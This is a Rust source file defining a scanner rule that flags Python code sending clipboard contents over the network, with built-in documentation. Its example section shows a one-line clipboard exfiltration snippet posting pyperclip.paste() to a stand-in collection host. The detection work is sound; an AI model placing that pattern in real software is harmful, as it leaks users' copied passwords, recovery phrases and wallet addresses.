use airlock_model::{Confidence, RuleMeta, Severity};

use super::destination::Destination;
use crate::python::model::origin::SourceKind;
use crate::rules::arrivals::Arrival;
use crate::rules::check::Check;
use crate::rules::sinks::SinkKind;
use crate::rules::{Rule, rule::Hook};

pub(crate) const RULE: Rule = Rule {
    meta: RuleMeta {
        id: "AL-FLOW-clipboard-to-network",
        title: "The clipboard is sent away",
        severity: Severity::High,
        confidence: Confidence::Medium,
        cwe: Some(200),
        bandit: &[],
        ruff: &[],
        remedy: "Ask for the text as a parameter instead of reading the clipboard.",
        doc: DOC,
    },
    hooks: &[Hook::Flow(&[SourceKind::Clipboard], &[SinkKind::Send], check)],
};

fn check(check: &mut Check<'_, '_>, arrival: &Arrival) {
    let Some((_, flow)) = arrival.of(&[SourceKind::Clipboard]).next() else { return };
    let destination = Destination::of(&arrival.destinations);
    if matches!(destination, Destination::Local(_)) {
        return;
    }
    let message = format!("{} sends what {} gives of the clipboard{}", arrival.path, flow.path, destination.phrase());
    let severity = if destination.is_suspicious() { Severity::Critical } else { Severity::High };
    let finding = super::finding(check, arrival, flow, message).severity(severity);
    check.report(finding);
}

const DOC: &str = r##"## What it finds
The clipboard's contents, read by `pyperclip`, `tkinter`, `win32clipboard`, `pbpaste`, `xclip` and the like, that reach a request, a socket or a mail.

## Why it is dangerous
People copy passwords, recovery phrases and wallet addresses. Whoever receives the clipboard receives those.

## Example
```python
import pyperclip
import requests

requests.post("https://collect.example.net/c", data=pyperclip.paste())
```

## Safe form
```python
import requests

def translate(text):
    return requests.post("https://api.example.org/translate", json={"text": text}, timeout=10).json()
```

## References
- [MITRE ATT&CK T1115: Clipboard Data](https://attack.mitre.org/techniques/T1115/)
- CWE-200: Exposure of Sensitive Information to an Unauthorized Actor
"##;
